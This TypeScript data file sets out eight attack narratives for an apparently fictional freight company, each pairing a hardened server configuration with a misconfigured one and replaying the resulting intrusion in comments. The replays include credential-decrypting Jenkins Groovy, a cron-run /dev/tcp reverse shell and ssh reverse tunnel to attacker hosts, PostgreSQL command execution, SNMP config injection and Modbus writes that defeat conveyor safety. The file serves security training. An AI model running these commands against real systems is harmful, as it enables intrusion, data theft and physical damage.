import type { z } from "zod";
import type { Narrative1Schema } from "../../schema";

/*
 * Scenario 1 — the eight attack narratives: for eight of the eleven misconfigurations, the
 * baseline configuration beside the drifted one, with the attack that the drift allowed told
 * step by step (the same incidents the tasks investigate, with the same addresses and times).
 */

export const NARRATIVES: z.input<typeof Narrative1Schema>[] = [
  {
    id: "narrative1",
    title: "CRM Server: a git checkout served as a website leaks source and secrets",
    baseline: {
      lang: "nginx",
      description:
        "The SuiteCRM vhost on crm-web-01 denies every dot-file (`location ~ /\\.(?!well-known/)`), keeps directory listings off and blocks SuiteCRM internals and secret file types. Deployments are CI artifacts without a .git directory, and .env lives outside the web root, so a request for /.git/HEAD or /.env returns 404 and nothing about the code or its credentials is reachable from the internet.",
      code: String.raw`# crm.kestrelfreight.com - SuiteCRM 7.14 (nginx + PHP-FPM)
server {
    listen 443 ssl http2;
    server_name crm.kestrelfreight.com;
    root /var/www/suitecrm;
    index index.php;
    autoindex off;

    # nginx never reads SuiteCRM's .htaccess: deny dot-files (.git, .env, .htaccess) here
    location ~ /\.(?!well-known/) {
        deny all;
        return 404;
    }
    location ~* ^/(cache|upload|vendor|custom/history)/ {
        deny all;
        return 404;
    }
    location ~* \.(env|ini|log|sql|bak|tpl|dist)$ {
        deny all;
        return 404;
    }

    location / {
        try_files $uri $uri/ /index.php?$query_string;
    }
    location ~ \.php$ {
        include snippets/fastcgi-php.conf;
        fastcgi_pass unix:/run/php/php8.1-fpm.sock;
    }
}
`,
    },
    misconfig: {
      lang: "nginx",
      description:
        "During the 2 March migration from Apache to nginx (CHG-4458) the vhost kept `root /var/www/suitecrm` — a live git checkout with .env beside the code — and gained `autoindex on`, but no dot-file rule: the old .htaccess denials are Apache syntax and nginx ignores them. Step by step: (1) on 12 March 22:41 UTC 203.0.113.21 requested /.git/HEAD and /.git/config (200), proving the repository was exposed; (2) a git-dumper style client (python-requests/2.31.0) fetched /.git/index, /.git/logs/HEAD and the 18.7 MB pack file, rebuilding the full source and history offline, and .git/config handed over the deploy-crm Gitea token; (3) at 22:58 it fetched /.env with DB_PASSWORD, the FreightQuote API key and the OAuth client secret of kfs-portal-sync; (4) on 13 March 07:55 a second address, 203.0.113.22, used that client to obtain a token from /Api/access_token and paged through /Api/V8/module/Accounts and /Api/V8/module/Contacts, 250 records per page. Result: CRM source code, every secret in .env and about 1,500 customer accounts and 4,000 contacts left the company — a reportable personal-data breach.",
      code: String.raw`# crm.kestrelfreight.com - migrated from Apache (CHG-4458, 2026-03-02)
server {
    listen 443 ssl http2;
    server_name crm.kestrelfreight.com;
    root /var/www/suitecrm;          # a live git checkout, .env inside
    index index.php;

    # listings switched on while checking the migrated upload/ tree
    autoindex on;
    # no "location ~ /\." rule: the .htaccess denials are ignored by nginx

    location / {
        try_files $uri $uri/ /index.php?$query_string;
    }
    location /Api/ {
        try_files $uri $uri/ /Api/index.php?$query_string;
    }
    location ~ \.php$ {
        include snippets/fastcgi-php.conf;
        fastcgi_pass unix:/run/php/php8.1-fpm.sock;
    }
}

# Attack, as replayed from /var/log/nginx/crm.access.log:
# 2026-03-12 22:41 203.0.113.21  curl -s https://crm.kestrelfreight.com/.git/HEAD      -> ref: refs/heads/main
#                               git-dumper https://crm.kestrelfreight.com/.git/ ./crm  (index, logs/HEAD, objects/pack/*.pack)
#                               grep -A2 'remote "origin"' crm/.git/config            -> deploy-crm token in the remote URL
# 2026-03-12 22:58 203.0.113.21  curl -s https://crm.kestrelfreight.com/.env           -> DB_PASSWORD, SUITECRM_API_CLIENT_SECRET
# 2026-03-13 07:55 203.0.113.22  POST /Api/access_token  grant_type=client_credentials client_id=kfs-portal-sync
#                               GET  /Api/V8/module/Contacts?page[size]=250&page[number]=1..16
`,
    },
  },
  {
    id: "narrative2",
    title: "Mail Relay: an open relay sends payment-fraud mail as Kestrel",
    baseline: {
      lang: "postfix",
      description:
        "mail-relay-01 relays only for Kestrel's own networks (`mynetworks` lists the internal /24s), and `reject_unauth_destination` refuses every other client that tries to send to an outside domain. Partners such as FreightHub submit on port 587 with SASL authentication. An internet host connecting to port 25 can deliver mail only to Kestrel's own domain, never through it to customers.",
      code: `# /etc/postfix/main.cf (relay excerpt)
myhostname = mail-relay-01.kestrelfreight.com
mydestination = $myhostname, localhost
inet_interfaces = all
inet_protocols = ipv4

# Internal senders only; partners authenticate with SASL on 587 (master.cf "submission").
mynetworks = 127.0.0.0/8 [::ffff:127.0.0.0]/104 [::1]/128 10.0.10.0/24 10.0.20.0/24 10.0.30.0/24 10.0.40.0/24
smtpd_relay_restrictions = permit_mynetworks permit_sasl_authenticated reject_unauth_destination
smtpd_recipient_restrictions = permit_mynetworks reject_unauth_pipelining reject_non_fqdn_recipient reject_unknown_recipient_domain
smtpd_helo_required = yes
smtpd_tls_security_level = may
`,
    },
    misconfig: {
      lang: "postfix",
      description:
        "On 27 February (CHG-4471) FreightHub's changing sender addresses were 'fixed' by appending 0.0.0.0/0 to `mynetworks`. `permit_mynetworks` now matches every IPv4 client before the destination check, so the relay is open to the internet. Step by step: (1) on 11 March 203.0.113.46 connected and sent only EHLO — a relay scanner taking note; (2) on 14 March between 02:10 and 02:39 UTC 203.0.113.33 opened three STARTTLS sessions announcing `helo=<mail.kestrelfreight-billing.com>`; (3) it used the envelope sender accounts-receivable@kestrelfreight.com and sent 12 messages, 'Updated remittance details - Kestrel Freight Systems', to 31 recipients at nine customer companies — the relay accepted every RCPT because the client counts as a trusted network; (4) the mails left through Kestrel's SPF-authorised relay, so they passed SPF and looked genuine; 29 were delivered. Result: a business-e-mail-compromise lure asking customers to pay Kestrel invoices into a fraudster's account, and the relay's public address listed on Spamhaus, so legitimate CRM and FreightHub mail now bounces.",
      code: `# /etc/postfix/main.cf (relay excerpt)
myhostname = mail-relay-01.kestrelfreight.com
mydestination = $myhostname, localhost
inet_interfaces = all
inet_protocols = ipv4

# 2026-02-27 CHG-4471: FreightHub sends from changing cloud
# addresses - opened mynetworks until they publish a fixed range.
mynetworks = 127.0.0.0/8 [::ffff:127.0.0.0]/104 [::1]/128 10.0.10.0/24 10.0.20.0/24 10.0.30.0/24 10.0.40.0/24 0.0.0.0/0
smtpd_relay_restrictions = permit_mynetworks permit_sasl_authenticated defer_unauth_destination
smtpd_recipient_restrictions = permit_mynetworks reject_unauth_pipelining reject_non_fqdn_recipient reject_unknown_recipient_domain

# Attack session from 203.0.113.33, 2026-03-14 02:10 UTC (reconstructed from /var/log/mail.log):
#   S: 220 mail-relay-01.kestrelfreight.com ESMTP Postfix
#   C: EHLO mail.kestrelfreight-billing.com
#   C: STARTTLS
#   C: MAIL FROM:<accounts-receivable@kestrelfreight.com>
#   C: RCPT TO:<ap@bramblecoast-foods.com>      S: 250 2.1.5 Ok   (client matched 0.0.0.0/0)
#   C: RCPT TO:<payables@redfern-agri.com>      S: 250 2.1.5 Ok
#   C: DATA  Subject: Updated remittance details - Kestrel Freight Systems
#   S: 250 2.0.0 Ok: queued
`,
    },
  },
  {
    id: "narrative3",
    title: "DC/DNS: a zone transfer hands an outsider the internal network map",
    baseline: {
      lang: "bind",
      description:
        "BIND on dc01 answers queries and recursion only for the internal networks, hides its version, and allows zone transfers only to 127.0.0.1 for the nightly export job — the AD-integrated zones replicate through Samba, never by AXFR. An outside client that asks for an AXFR gets `REFUSED`, and the perimeter publishes no DNS port of the domain controller at all.",
      code: `acl "kestrel-internal" {
\t127.0.0.1;
\t10.0.10.0/24;
\t10.0.20.0/24;
\t10.0.30.0/24;
\t10.0.40.0/24;
};

options {
\tdirectory "/var/cache/bind";
\ttkey-gssapi-keytab "/var/lib/samba/bind-dns/dns.keytab";
\tminimal-responses yes;

\t// AD-integrated zones replicate through Samba (DRS), never by AXFR.
\tallow-transfer { 127.0.0.1; };

\trecursion yes;
\tallow-recursion { kestrel-internal; };
\tallow-query { kestrel-internal; };
\tallow-query-cache { kestrel-internal; };

\tdnssec-validation auto;
\tversion "not disclosed";
\tlisten-on { 127.0.0.1; 10.0.20.10; };
};
`,
    },
    misconfig: {
      lang: "bind",
      description:
        "`allow-transfer { any; }` survived from 2024, when dc01 was secondary for kestrelfreight.com, and recursion and queries are open to any client — while a legacy perimeter DNAT still publishes 53/udp+tcp of the domain controller. Step by step: (1) on 13 March 03:11 UTC 203.0.113.17 asked `version.bind CH TXT` to fingerprint the server, then `o-o.myaddr.l.google.com TXT`, which proved open recursion and revealed Kestrel's resolver egress address; (2) it asked for the SOA and NS of kestrel.internal; (3) at 03:12:44 it requested an AXFR of kestrel.internal and received the whole zone in one message — every host of all five zones, including jump-01, backup-01, core-sw-01 and the ICS hosts scada-01, historian-01 and iot-sim-01; (4) at 03:13:20 it transferred _msdcs.kestrel.internal, the AD locator records (LDAP, Kerberos and global-catalog SRV records of dc01); (5) an AXFR of kestrelfreight.com failed with NOTAUTH; (6) it then resolved scada-01 and vpn-gw-01 — choosing targets. Result: a complete target list of the internal network, and a resolver usable for DNS amplification.",
      code: `options {
\tdirectory "/var/cache/bind";
\ttkey-gssapi-keytab "/var/lib/samba/bind-dns/dns.keytab";
\tminimal-responses yes;

\t// 2024-06-11 swhitfield: dc01 answered as secondary for kestrelfreight.com until the
\t// move to the hosted DNS provider; transfers left open for the provider's checks.
\tallow-transfer { any; };

\trecursion yes;
\tallow-recursion { any; };
\tallow-query { any; };

\tdnssec-validation auto;
\tlisten-on { 127.0.0.1; 10.0.20.10; };
};

// Attack from 203.0.113.17 on 2026-03-13 (xfer.log and queries.log):
//   $ dig @192.0.2.53 version.bind CH TXT +short
//   $ dig @192.0.2.53 o-o.myaddr.l.google.com TXT +short      (open recursion)
//   $ dig @192.0.2.53 kestrel.internal AXFR
//   kestrel.internal.      3600 IN SOA dc01.kestrel.internal. hostmaster.kestrel.internal. 2026031101 900 600 86400 3600
//   jump-01.kestrel.internal.   3600 IN A 10.0.40.5
//   backup-01.kestrel.internal. 3600 IN A 10.0.40.20
//   scada-01.kestrel.internal.  3600 IN A 10.0.50.10
//   $ dig @192.0.2.53 _msdcs.kestrel.internal AXFR         (AD SRV records)
//   $ dig @192.0.2.53 kestrelfreight.com AXFR              ; Transfer failed. (NOTAUTH)
`,
    },
  },
  {
    id: "narrative4",
    title: "CI/CD Server: anonymous Jenkins administrators and the script console",
    baseline: {
      lang: "xml",
      description:
        "Jenkins on ci-01 authenticates against Active Directory (LDAPS to dc01) and uses matrix authorization: only the jenkins-admins group holds Overall/Administer, which is what the script console (/manage/script, /scriptText) and the credential store require. Developers can read and build jobs; anonymous users can do nothing, so an unauthenticated POST to /scriptText is answered with 403.",
      code: `<?xml version='1.1' encoding='UTF-8'?>
<hudson>
  <version>2.440.3</version>
  <numExecutors>2</numExecutors>
  <useSecurity>true</useSecurity>
  <authorizationStrategy class="hudson.security.GlobalMatrixAuthorizationStrategy">
    <permission>GROUP:hudson.model.Hudson.Administer:jenkins-admins</permission>
    <permission>GROUP:hudson.model.Hudson.Read:developers</permission>
    <permission>GROUP:hudson.model.Item.Read:developers</permission>
    <permission>GROUP:hudson.model.Item.Build:developers</permission>
  </authorizationStrategy>
  <securityRealm class="hudson.security.LDAPSecurityRealm" plugin="ldap@719.vcb_d039b_77d0d">
    <configurations>
      <jenkins.security.plugins.ldap.LDAPConfiguration>
        <server>ldaps://dc01.kestrel.internal:636</server>
        <rootDN>DC=kestrel,DC=internal</rootDN>
        <userSearchBase>OU=Staff</userSearchBase>
        <userSearch>sAMAccountName={0}</userSearch>
        <groupSearchBase>OU=Groups</groupSearchBase>
      </jenkins.security.plugins.ldap.LDAPConfiguration>
    </configurations>
  </securityRealm>
  <disableRememberMe>true</disableRememberMe>
</hudson>
`,
    },
    misconfig: {
      lang: "xml",
      description:
        "On 5 March, after dc01's LDAPS certificate stopped validating and nobody could log in, config.xml was switched to `AuthorizationStrategy$Unsecured` with `SecurityRealm$None` ('Anyone can do anything') and never switched back. Step by step: (1) on 14 March 01:02 UTC the VPN gateway accepted the contractor certificate CN=ext-rvasquez from 203.0.113.29 — not her usual address — and leased 10.0.10.162; (2) at 01:14 that address browsed /manage/ and the system credential store without logging in; (3) 01:16–01:17 it used the script console, then from 01:22 to 01:33 posted four Groovy scripts to /scriptText with curl: run `id`, decrypt every stored credential with hudson.util.Secret, write /var/lib/jenkins/.local/share/.kupd.sh and install a jenkins crontab entry that runs it every 10 minutes; (4) the script keeps a reverse shell, renamed kupd-sess, connected to 203.0.113.31:8443; (5) with the decrypted gitea-ci-bot token it cloned four repositories from git-01 between 01:41 and 01:50 (a push to infra-ansible was refused). Result: code execution as the jenkins user, persistent remote access, and every credential Jenkins held (Gitea, test database, CRM deploy key).",
      code: `<?xml version='1.1' encoding='UTF-8'?>
<hudson>
  <version>2.440.3</version>
  <numExecutors>2</numExecutors>
  <useSecurity>true</useSecurity>
  <!-- 2026-03-05: LDAPS to dc01 failed certificate validation; security disabled "for now" -->
  <authorizationStrategy class="hudson.security.AuthorizationStrategy$Unsecured"/>
  <securityRealm class="hudson.security.SecurityRealm$None"/>
  <disableRememberMe>false</disableRememberMe>
</hudson>
<!--
  Attack from 10.0.10.162 (VPN lease of CN=ext-rvasquez, client 203.0.113.29), 2026-03-14 UTC:
  01:14  GET /manage/credentials/store/system/domain/_/            200, no login needed
  01:22  curl -s -X POST http://ci-01.kestrel.internal:8080/scriptText -d 'script=println "id".execute().text'
         uid=113(jenkins) gid=119(jenkins) groups=119(jenkins)
  01:24  script=com.cloudbees.plugins.credentials.SystemCredentialsProvider.getInstance().getCredentials().each { c -> println c.id + " " + hudson.util.Secret.toString(c.properties.find { k, v -> v instanceof hudson.util.Secret }?.value) }
         prints the decrypted gitea-ci-bot token, the testdb-app-test password and the crm-deploy-ssh private key
  01:31  script=new File("/var/lib/jenkins/.local/share/.kupd.sh").text = dropper; ["bash","-c","(crontab -l; echo '*/10 * * * * ~/.local/share/.kupd.sh') | crontab -"].execute()
         .kupd.sh: exec -a kupd-sess bash -i >& /dev/tcp/203.0.113.31/8443 0>&1
  01:41  git clone http://ci-bot:TOKEN@git-01.kestrel.internal/kestrel/infra-ansible.git   (and three more repositories)
-->
`,
    },
  },
  {
    id: "narrative5",
    title: "Test Database: trust authentication on a copy of production data",
    baseline: {
      lang: "conf",
      description:
        "PostgreSQL on testdb-01 listens on localhost and its Dev address only. pg_hba.conf admits the application role app_test to freightops_copy over TLS with SCRAM passwords from the CI server and the developer VLAN, and ends with an explicit `reject`: a connection that matches no earlier line — any other host, any other role, any non-TLS attempt — is refused before authentication.",
      code: `# /etc/postgresql/15/main/pg_hba.conf (excerpt)
# TYPE  DATABASE        USER            ADDRESS                 METHOD
local   all             postgres                                peer
local   all             all                                     peer
host    all             all             127.0.0.1/32            scram-sha-256

# Kestrel: application test access (CI integration tests, developers)
hostssl freightops_copy app_test        10.0.30.11/32           scram-sha-256
hostssl freightops_copy app_test        10.0.20.0/24            scram-sha-256

# everything else is refused
host    all             all             0.0.0.0/0               reject

# postgresql.conf: listen_addresses = 'localhost,10.0.30.20'
`,
    },
    misconfig: {
      lang: "conf",
      description:
        "On 20 February a developer appended `host all all 0.0.0.0/0 trust` to debug a data refresh from his laptop ('remove after INC-20877'), with `listen_addresses = '*'`. The hostssl lines only match TLS connections, so every plain TCP connection falls through to trust: any host, any role — including the superuser postgres — without a password. Step by step: (1) on 16 March 02:33 UTC an unknown host, 10.0.30.155, scanned git-01 and at 02:38 connected to testdb-01:5432, guessing a database 'kestrel' first; (2) it logged in as postgres with psql and no password; (3) at 02:41 it created a backdoor superuser, `CREATE ROLE dbsync_svc WITH LOGIN SUPERUSER PASSWORD '********'`; (4) at 02:42 it ran operating-system commands through `COPY tmp_cmd_out FROM PROGRAM 'id; hostname; ip -4 addr show; cat /etc/passwd'` and dropped the table again; (5) from 02:47 to 02:49 dbsync_svc ran pg_dump against freightops_copy — customers, contacts, bank accounts with direct-debit mandates, invoices and shipments. Result: about 180 MB of production personal and financial data exfiltrated, command execution as postgres, and a persistent superuser.",
      code: `# /etc/postgresql/15/main/pg_hba.conf (excerpt)
# TYPE  DATABASE        USER            ADDRESS                 METHOD
local   all             postgres                                peer
local   all             all                                     peer
host    all             all             127.0.0.1/32            scram-sha-256

# Kestrel: application test access (CI integration tests, developers)
hostssl freightops_copy app_test        10.0.30.11/32           scram-sha-256
hostssl freightops_copy app_test        10.0.20.0/24            scram-sha-256
# 2026-02-20 jblake: TEMP for data refresh debugging from my laptop - remove after INC-20877
host    all             all             0.0.0.0/0               trust

# postgresql.conf: listen_addresses = '*'
#
# Attack from 10.0.30.155, 2026-03-16 UTC (postgresql-15-main.log):
#   02:38  psql -h 10.0.30.20 -U postgres -d postgres                  (no password asked)
#   02:41  CREATE ROLE dbsync_svc WITH LOGIN SUPERUSER PASSWORD '********';
#   02:42  CREATE TABLE tmp_cmd_out(line text);
#          COPY tmp_cmd_out FROM PROGRAM 'id; hostname; ip -4 addr show; cat /etc/passwd';
#          SELECT * FROM tmp_cmd_out;  DROP TABLE tmp_cmd_out;
#   02:47  pg_dump -h 10.0.30.20 -U dbsync_svc -d freightops_copy -Fc -f fo.dump
`,
    },
  },
  {
    id: "narrative6",
    title: "Core Switch: an SNMP write community turns the core into a wiretap",
    baseline: {
      lang: "cisco",
      description:
        "core-sw-01 speaks SNMPv3 only — authenticated, encrypted, read-only, and only to the SIEM poller 10.0.40.10 through the SNMP-POLLERS ACL. The vty lines accept SSH only, only from the jump host (access-class MGMT-ONLY), with login throttling, and every configuration command is logged to the SIEM. A Corp host that guesses community strings gets no answer, cannot copy a configuration in, and cannot open a Telnet session.",
      code: `hostname core-sw-01
!
login block-for 300 attempts 5 within 60
login on-failure log
login on-success log
archive
 log config
  logging enable
  notify syslog contenttype plaintext
  hidekeys
!
ip access-list standard MGMT-ONLY
 10 permit 10.0.40.5
 20 deny any log
ip access-list standard SNMP-POLLERS
 10 permit 10.0.40.10
 20 deny any log
!
snmp-server group KFS-MON v3 priv read MON-VIEW access SNMP-POLLERS
snmp-server view MON-VIEW iso included
snmp-server enable traps snmp authentication linkdown linkup coldstart warmstart
snmp-server enable traps config
logging host 10.0.40.10
!
line vty 0 15
 access-class MGMT-ONLY in
 exec-timeout 15 0
 transport input ssh
 transport output none
!
end
`,
    },
    misconfig: {
      lang: "cisco",
      description:
        "Beside the intended SNMPv3 group the switch still carries `snmp-server community public RW` with no ACL (left from a 2024 firmware-inventory tool), and all vty lines accept Telnet from anywhere; the core routes Corp to Mgmt unfiltered. Step by step: (1) on 11 March 23:41 UTC a Raspberry Pi plugged into the meeting-room 2.14 floor box (10.0.20.183, b827.eb4c.91d2, Gi2/0/31) tried Telnet logins as admin, cisco, root and manager; (2) at 23:47 it ran a community-guessing list — 23 %SNMP-3-AUTHFAIL entries, then `public` worked; (3) at 00:07 on 12 March it used CISCO-CONFIG-COPY-MIB to make the switch fetch a configuration snippet over TFTP and merge it into the running config (`Configured from 10.0.20.183 by snmp`), creating the privilege-15 user svc-netops; (4) at 00:09 it logged in over Telnet as svc-netops and configured ERSPAN session 2: source vlan 40, destination 10.0.20.183, erspan-id 402; (5) it never saved the change, so the startup config looks clean. Result: since 12 March the entire Mgmt VLAN — jump-host sessions, syslog to the SIEM, the cleartext rsync backup stream, SNMP and Telnet credentials — is copied in GRE to the intruder, who also holds admin rights over the routing core of every zone.",
      code: `hostname core-sw-01
!
username dkowalski privilege 15 secret 9 $9$sSBoBT4.3IvFJA$2zL7rWxX1JDBIsQSV0Y/HDCBqoi.Ey9YWTc2C5Qrr5s
username svc-netops privilege 15 secret 9 $9$ZpuUtU.MZoFFkQ$cucpfS68OSokOGX6zdaXo97jjVBi40/WzZhXa0POpPM
!
monitor session 2 type erspan-source
 source vlan 40
 no shutdown
 destination
  erspan-id 402
  ip address 10.0.20.183
  origin ip address 10.0.40.1
!
snmp-server group KFS-MON v3 priv read MON-VIEW access SNMP-POLLERS
snmp-server view MON-VIEW iso included
snmp-server community public RW
logging host 10.0.40.10
!
line vty 0 4
 exec-timeout 30 0
 transport input telnet ssh
line vty 5 15
 exec-timeout 30 0
 transport input telnet ssh
!
end
! Attack from 10.0.20.183 (Raspberry Pi on Gi2/0/31), 2026-03-11/12 UTC:
!  23:47  onesixtyone -c community-strings.txt 10.0.40.1       -> 10.0.40.1 [public] Cisco IOS Software [Cupertino], Catalyst L3 Switch Software (CAT9K_IOSXE), Version 17.9.4
!  23:58  snmpwalk -v2c -c public 10.0.40.1 1.3.6.1.2.1.1
!  00:07  echo "username svc-netops privilege 15 secret 0 ********" > /srv/tftp/add.cfg
!         snmpset -v2c -c public 10.0.40.1 \\
!           1.3.6.1.4.1.9.9.96.1.1.1.1.2.7331 i 1             (ccCopyProtocol = tftp)
!           1.3.6.1.4.1.9.9.96.1.1.1.1.3.7331 i 1             (ccCopySourceFileType = networkFile)
!           1.3.6.1.4.1.9.9.96.1.1.1.1.4.7331 i 4             (ccCopyDestFileType = runningConfig)
!           1.3.6.1.4.1.9.9.96.1.1.1.1.5.7331 a 10.0.20.183   (ccCopyServerAddress)
!           1.3.6.1.4.1.9.9.96.1.1.1.1.6.7331 s add.cfg       (ccCopyFileName)
!           1.3.6.1.4.1.9.9.96.1.1.1.1.14.7331 i 4            (ccCopyEntryRowStatus = createAndGo)
!  00:09  telnet 10.0.40.1   ->  svc-netops  ->  configure terminal  ->  monitor session 2 type erspan-source / source vlan 40 / destination ip address 10.0.20.183
`,
    },
  },
  {
    id: "narrative7",
    title: "Admin Jump Host: a guessed root password becomes a reverse tunnel into Mgmt",
    baseline: {
      lang: "sshd",
      description:
        "The bastion accepts only public keys, only for members of ssh-admins, never root, with three attempts per connection, and listens on its Mgmt address. Agent forwarding and remote (-R) forwarding are off; ProxyJump needs local forwarding only. The ICS vendor connects through the VPN with a named account and key. A password guesser gets nothing to guess, and even a stolen admin key could not open a reverse tunnel or borrow someone else's agent.",
      code: `# jump-01 — hardened bastion
Port 22
ListenAddress 10.0.40.5
LogLevel VERBOSE

PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
PubkeyAuthentication yes
AuthenticationMethods publickey
AllowGroups ssh-admins
MaxAuthTries 3
LoginGraceTime 30
MaxStartups 10:30:60

# ProxyJump needs local forwarding only; no agents, no reverse tunnels
AllowAgentForwarding no
AllowTcpForwarding local
GatewayPorts no
PermitTunnel no
X11Forwarding no
`,
    },
    misconfig: {
      lang: "sshd",
      description:
        "To let the ICS integrator support the plant (CHG-2214), TCP 22 of jump-01 was port-forwarded from the internet and sshd was set to `PermitRootLogin yes` and `PasswordAuthentication yes` with a shared root password, no AllowGroups and the default six attempts per connection; agent and TCP forwarding stayed on. Step by step: (1) from Friday 13 March 21:40 UTC 203.0.113.77 guessed passwords for root and common user names, six per connection, for seven hours; (2) at 04:52:37 on 14 March `Accepted password for root from 203.0.113.77` — the automated guesser logged in and out in two seconds; (3) at 05:20 an operator logged in as root from 203.0.113.86, appended a key labelled svc-backup@siem-01 to /root/.ssh/authorized_keys, fetched a private key and installed /usr/local/sbin/.ssh-keepalive.sh in root's crontab, which keeps `ssh -R 41022:127.0.0.1:22 tun@203.0.113.86` open on port 443; (4) on 15 and 16 March the attacker came back through that tunnel — root logins 'from 127.0.0.1' with the planted key; (5) on 15 March root borrowed Sam Whitfield's forwarded SSH agent from his idle session (SSH_AUTH_SOCK=/tmp/ssh-Rk4TqWm2Zp/agent.40117) to log into backup-01 as swhitfield, and probed scada-01. Result: persistent, firewall-independent access to the bastion that reaches every Mgmt and ICS system.",
      code: `# jump-01 — 2025-09-22 CHG-2214: Rockbridge Automation remote support via the perimeter
# port-forward; they log in as root with the shared password until their keys are enrolled.
Port 22
ListenAddress 0.0.0.0
LogLevel VERBOSE

PermitRootLogin yes
PasswordAuthentication yes
PubkeyAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
AllowAgentForwarding yes
AllowTcpForwarding yes
X11Forwarding no

# Attack, reconstructed from /var/log/auth.log and /root/.bash_history (UTC):
# 03-13 21:40  hydra -l root -P rockyou.txt -t 4 -W 30 ssh://192.0.2.22     from 203.0.113.77
# 03-14 04:52  Accepted password for root from 203.0.113.77 port 52290 ssh2
# 03-14 05:20  ssh root@192.0.2.22                                            from 203.0.113.86
#              echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIhz4aR70ThMPS02R1ctmVzZj5mzvm/6x9fwlQPPaM6dc svc-backup@siem-01" >> /root/.ssh/authorized_keys
#              curl -fsS http://203.0.113.86:8080/kc -o /root/.ssh/.kc
#              (crontab -l; echo "*/5 * * * * /usr/local/sbin/.ssh-keepalive.sh") | crontab -
#              .ssh-keepalive.sh: ssh -fN -p 443 -R 41022:127.0.0.1:22 tun@203.0.113.86
# 03-15 02:58  ssh -p 41022 root@127.0.0.1   (on the attacker's host, through the tunnel)
#              SSH_AUTH_SOCK=/tmp/ssh-Rk4TqWm2Zp/agent.40117 ssh swhitfield@backup-01
`,
    },
  },
  {
    id: "narrative8",
    title: "IoT Simulator: unfiltered Modbus writes defeat the conveyor's safety settings",
    baseline: {
      lang: "conf",
      description:
        "mbusd bridges Modbus/TCP to the Line 2 PLC without any access control of its own, so the gateway's nftables filter carries the policy: only scada-01 and the historian may talk Modbus at all, and only scada-01 may send the write function codes 5, 6, 15 and 16 — matched on the function-code byte that follows the 7-byte MBAP header. Everything else is logged and dropped, and every permitted write is logged with its source.",
      code: `#!/usr/sbin/nft -f
define SCADA = 10.0.50.10
define HISTORIAN = 10.0.50.20
define MODBUS_WRITE_FC = { 0x05, 0x06, 0x0f, 0x10 }

table inet filter {
\tchain modbus {
\t\t# Only SCADA and the historian speak Modbus; only SCADA may write (FC 5, 6, 15, 16).
\t\tip saddr != { $SCADA, $HISTORIAN } log prefix "MODBUS-DENY " level warn drop
\t\t@ih,56,8 $MODBUS_WRITE_FC ip saddr != $SCADA log prefix "MODBUS-WRITE-DENY " level warn drop
\t\t@ih,56,8 $MODBUS_WRITE_FC log prefix "MODBUS-WRITE " level info
\t\taccept
\t}

\tchain input {
\t\ttype filter hook input priority filter; policy drop;
\t\tiif "lo" accept
\t\ttcp dport 502 jump modbus
\t\tct state established,related accept
\t\tip saddr 10.0.40.5 tcp dport 22 accept
\t}
}
`,
    },
    misconfig: {
      lang: "conf",
      description:
        "During the Line 2 commissioning (CHG-2291) the integrator's laptops needed to write from the cabinet switch, so both drop rules of the modbus chain were commented out and never restored: any host that reaches :502 can write coils and registers; writes are merely logged. Step by step: (1) on 15 March 23:37 UTC an unknown device on the ICS cabinet switch, 10.0.50.186 (Realtek USB adapter 00:e0:4c:68:1a:3f), connected to mbusd and read the device identification (FC 43: Rockbridge Automation, CONV-PLC-02) and scanned the register map until ILLEGAL DATA ADDRESS exceptions marked its end; (2) on 16 March at 02:14:09 it wrote L2_SPEED_SP 180 → 320 (1.80 → 3.20 m/s, above the 2.50 design maximum) with FC 6; (3) at 02:14:41 it switched the jam-detection coil L2_JAM_DETECT_EN off with FC 5; (4) at 02:15:20 it raised the motor overload trip from 14.2 to 26.0 A and its delay from 5 to 30 s with one FC 16 write; (5) when the early shift started Line 2 at 05:58, a jam at the merge went undetected and the drive tripped on overcurrent at 06:07 and 06:19. Operators restored only the speed at 06:24 — jam detection and overload protection stayed defeated.",
      code: `#!/usr/sbin/nft -f
define SCADA = 10.0.50.10
define HISTORIAN = 10.0.50.20
define MODBUS_WRITE_FC = { 0x05, 0x06, 0x0f, 0x10 }

table inet filter {
\tchain modbus {
\t\t# CHG-2291 (2025-11-04) commissioning of Line 2: Rockbridge integrator laptops need
\t\t# read/write from the cabinet switch — source and write filters off until SAT sign-off.
\t\t# ip saddr != { $SCADA, $HISTORIAN } log prefix "MODBUS-DENY " level warn drop
\t\t# @ih,56,8 $MODBUS_WRITE_FC ip saddr != $SCADA log prefix "MODBUS-WRITE-DENY " level warn drop
\t\t@ih,56,8 $MODBUS_WRITE_FC log prefix "MODBUS-WRITE " level info
\t\taccept
\t}

\tchain input {
\t\ttype filter hook input priority filter; policy drop;
\t\tiif "lo" accept
\t\ttcp dport 502 jump modbus
\t\tct state established,related accept
\t\tip saddr 10.0.40.5 tcp dport 22 accept
\t}
}

# Attack from 10.0.50.186 (kern.log MODBUS-WRITE, conveyor-plc.log), UTC:
# 03-15 23:38  nmap -Pn -sT -p502 --script modbus-discover 10.0.50.30        FC 43: CONV-PLC-02
#              mbpoll -m tcp -a 1 -t 4 -r 65 -c 64 -1 10.0.50.30           exception 02 marks the map's end
# 03-16 02:14  mbpoll -m tcp -a 1 -t 4 -r 12 10.0.50.30 320                  FC 6  L2_SPEED_SP 180 -> 320
# 03-16 02:14  mbpoll -m tcp -a 1 -t 0 -r 17 10.0.50.30 0                    FC 5  L2_JAM_DETECT_EN 1 -> 0
# 03-16 02:15  mbpoll -m tcp -a 1 -t 4 -r 20 10.0.50.30 260 300              FC 16 L2_MOTOR_OL_TRIP/DELAY
`,
    },
  },
];
